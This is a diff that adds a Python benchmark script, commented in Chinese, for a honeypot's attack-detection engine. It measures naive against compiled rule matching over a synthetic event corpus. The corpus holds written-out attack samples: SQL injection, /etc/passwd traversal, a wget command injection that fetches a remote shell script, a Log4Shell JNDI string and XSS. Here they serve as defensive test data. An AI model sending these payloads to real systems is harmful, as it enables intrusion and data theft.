@@ -0,0 +1,172 @@
+"""
+检测引擎基准测试
+
+对同一语料分别运行逐条规则匹配（基线）与编译后的组合匹配器，比较吞吐与单事件延迟，
+并校验两者的命中结果一致。
+
+    python -m benchmarks.detection                              # 内置合成语料
+    python -m benchmarks.detection --corpus events.jsonl        # 录制的语料（每行一个事件）
+    python -m benchmarks.detection --export events.jsonl -n 50000   # 从数据库导出最近事件作为语料
+    python -m benchmarks.detection --json                       # 以 JSON 输出结果
+"""
+import argparse
+import json
+import os
+import random
+import statistics
+import sys
+import time
+
+sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
+
+from app.detection import Engine, event_texts  # noqa: E402
+from config import Config  # noqa: E402
+
+
+BENIGN_PATHS = ['/', '/index.html', '/login', '/api/v1/items?page=2', '/static/app.js', '/search?q=honeypot+report']
+ATTACK_PATHS = [
+    '/index.php?id=1%20UNION%20SELECT%20username,password%20FROM%20users',
+    '/download?file=../../../../etc/passwd',
+    '/cgi-bin/luci;wget%20http://203.0.113.5/x.sh',
+    '/.env',
+    '/wp-login.php',
+    '/?q=%3Cscript%3Ealert(1)%3C/script%3E',
+    '/item?id=1%27%20OR%20%271%27=%271',
+]
+USER_AGENTS = [
+    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36',
+    'curl/8.4.0',
+    'sqlmap/1.7.2#stable (https://sqlmap.org)',
+    'Mozilla/5.0 zgrab/0.x',
+    '${jndi:ldap://198.51.100.7:1389/a}',
+]
+
+
+def synthetic_corpus(size: int, attack_ratio: float = 0.2, seed: int = 42) -> list:
+    rng = random.Random(seed)
+    corpus = []
+    for _ in range(size):
+        attack = rng.random() < attack_ratio
+        corpus.append({
+            'path': rng.choice(ATTACK_PATHS if attack else BENIGN_PATHS),
+            'headers': {
+                'Host': 'example.com',
+                'User-Agent': rng.choice(USER_AGENTS if attack else USER_AGENTS[:2]),
+                'Accept': '*/*',
+            },
+            'payload': {
+                'username': 'admin',
+                'password': "' or sleep(5)-- " if attack and rng.random() < 0.3 else 'hunter2',
+                'comment': ''.join(rng.choice('abcdefghijklmnopqrstuvwxyz ') for _ in range(rng.randint(20, 400))),
+            },
+        })
+    return corpus
+
+
+def load_corpus(path: str) -> list:
+    with open(path, encoding='utf-8') as f:
+        return [json.loads(line) for line in f if line.strip()]
+
+
+def export_corpus(path: str, limit: int) -> int:
+    from app import create_app
+    from app.models import AttackEvent
+    with create_app().app_context():
+        events = AttackEvent.query.order_by(AttackEvent.id.desc()).limit(limit).all()
+        with open(path, 'w', encoding='utf-8') as f:
+            for event in events:
+                f.write(json.dumps(
+                    {'path': event.path, 'headers': event.headers, 'payload': event.payload},
+                    ensure_ascii=False,
+                ) + '\n')
+    return len(events)
+
+
+def naive_match(rules, texts: dict) -> list:
+    """基线：逐条规则、逐个目标尝试字面量与正则"""
+    matched = []
+    for rule in rules:
+        for target in rule.targets:
+            text = texts.get(target)
+            if not text:
+                continue
+            lowered = text.lower()
+            if any(word in lowered for word in rule.literals) or (
+                rule.pattern is not None and rule.pattern.search(text)
+            ):
+                matched.append(rule)
+                break
+    return matched
+
+
+def measure(name: str, func, corpus_texts) -> tuple:
+    latencies = []
+    results = []
+    started = time.perf_counter()
+    for texts in corpus_texts:
+        t0 = time.perf_counter()
+        results.append(frozenset(rule.id for rule in func(texts)))
+        latencies.append(time.perf_counter() - t0)
+    elapsed = time.perf_counter() - started
+    latencies.sort()
+    summary = {
+        'matcher': name,
+        'events': len(latencies),
+        'events_per_sec': round(len(latencies) / elapsed, 1),
+        'mean_us': round(statistics.fmean(latencies) * 1e6, 2),
+        'p50_us': round(latencies[len(latencies) // 2] * 1e6, 2),
+        'p99_us': round(latencies[min(len(latencies) - 1, int(len(latencies) * 0.99))] * 1e6, 2),
+        'matched_events': sum(1 for r in results if r),
+    }
+    return summary, results
+
+
+def main(argv=None) -> int:
+    parser = argparse.ArgumentParser(description='检测引擎基准测试')
+    parser.add_argument('--rules', default=Config.DETECTION_RULES)
+    parser.add_argument('--corpus', help='JSONL 语料，每行 {path, headers, payload}')
+    parser.add_argument('--export', help='从数据库导出最近事件到该文件后退出')
+    parser.add_argument('-n', '--size', type=int, default=20000, help='合成语料条数 / 导出条数')
+    parser.add_argument('--json', action='store_true', help='以 JSON 输出')
+    args = parser.parse_args(argv)
+
+    if args.export:
+        count = export_corpus(args.export, args.size)
+        print(f'已导出 {count} 条事件到 {args.export}')
+        return 0
+
+    with open(args.rules, encoding='utf-8') as f:
+        specs = json.load(f)
+    t0 = time.perf_counter()
+    engine = Engine(specs)
+    compile_ms = round((time.perf_counter() - t0) * 1000, 2)
+
+    corpus = load_corpus(args.corpus) if args.corpus else synthetic_corpus(args.size)
+    corpus_texts = [event_texts(event) for event in corpus]
+
+    baseline, expected = measure('naive', lambda texts: naive_match(engine.rules, texts), corpus_texts)
+    compiled, actual = measure('compiled', engine.match, corpus_texts)
+    mismatches = sum(1 for a, b in zip(expected, actual) if a != b)
+    result = {
+        'rules': len(engine.rules),
+        'compile_ms': compile_ms,
+        'corpus': args.corpus or f'synthetic:{args.size}',
+        'results': [baseline, compiled],
+        'speedup': round(compiled['events_per_sec'] / baseline['events_per_sec'], 2),
+        'mismatches': mismatches,
+    }
+
+    if args.json:
+        print(json.dumps(result, ensure_ascii=False, indent=2))
+    else:
+        print(f"规则 {result['rules']} 条，编译 {compile_ms} ms，语料 {result['corpus']}")
+        for row in result['results']:
+            print(f"  {row['matcher']:<9} {row['events_per_sec']:>10} 事件/秒  "
+                  f"mean {row['mean_us']} µs  p50 {row['p50_us']} µs  p99 {row['p99_us']} µs  "
+                  f"命中 {row['matched_events']}")
+        print(f"  加速比 {result['speedup']}x，结果不一致 {mismatches} 条")
+    return 1 if mismatches else 0
+
+
+if __name__ == '__main__':
+    sys.exit(main())